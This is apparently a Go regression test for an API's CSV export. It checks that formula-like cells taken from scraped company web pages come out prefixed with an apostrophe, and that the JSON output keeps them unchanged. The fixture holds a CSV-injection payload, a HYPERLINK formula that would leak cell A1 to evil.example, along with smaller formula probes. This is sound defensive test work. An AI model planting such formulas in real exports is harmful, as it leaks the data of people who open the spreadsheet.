package datasetshttp_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/firmoapi/firmo/shared/company"
)

// The review's finding: append's CSV wrote cells starting with = + - @ verbatim
// (=HYPERLINK(...) came back as is), and profile fields come from third-party
// websites. A hostile homepage goes in through ingest; its fields come out of
// append's CSV neutralised (a ' before them), and unchanged in its JSON.
func TestAppendCSVNeutralisesFormulasFromAHostilePage(t *testing.T) {
	r := newRig(t)
	key, _ := r.key("Org A")
	const title = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
	page, _ := json.Marshal(map[string]any{"url": "https://hostile-corp.com/", "status_code": 200, "fetched_at": "2026-05-10T00:00:00Z",
		"html": `<html><head><title>` + title + `</title><meta name="description" content="=1+1"></head><body><h1>@SUM(A1:A9)</h1><p>-2+3 is how we count.</p></body></html>`})
	if _, err := r.companies.IngestPages(context.Background(), bytes.NewReader(append(page, '\n')), company.IngestOptions{}); err != nil {
		t.Fatal(err)
	}
	file := []byte("Website,Note\nhostile-corp.com,=1+1\n")
	rep := r.post(key, url.Values{"dataset": {"bizdata"}, "csv": {"true"}}, file, nil)
	if rep.status != 200 {
		t.Fatalf("status %d: %s", rep.status, rep.body)
	}
	recs, err := csv.NewReader(bytes.NewReader(rep.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 {
		t.Fatalf("CSV of %d records, want a header and one row:\n%s", len(recs), rep.body)
	}
	cells := map[string]string{}
	for i, h := range recs[0] {
		cells[h] = recs[1][i]
	}
	for h, c := range cells {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("column %s: cell %q would run as a formula", h, c)
		}
	}
	if cells["input:Note"] != "'=1+1" {
		t.Errorf("input:Note = %q, want '=1+1", cells["input:Note"])
	}
	hostile := false
	for _, c := range recs[1] {
		if strings.HasPrefix(c, "'=HYPERLINK") || strings.HasPrefix(c, "'=1+1") && c != cells["input:Note"] {
			hostile = true
		}
	}
	if !hostile {
		t.Errorf("no profile field of the hostile page came back neutralised; the row: %q (header %q)", recs[1], recs[0])
	}
	// JSON is data, not a spreadsheet: the same fields as they are.
	rep = r.post(key, url.Values{"dataset": {"bizdata"}}, file, nil)
	if !strings.Contains(string(rep.body), `"=1+1"`) {
		t.Errorf("JSON answer lost the input cell as it is: %s", rep.body)
	}
}
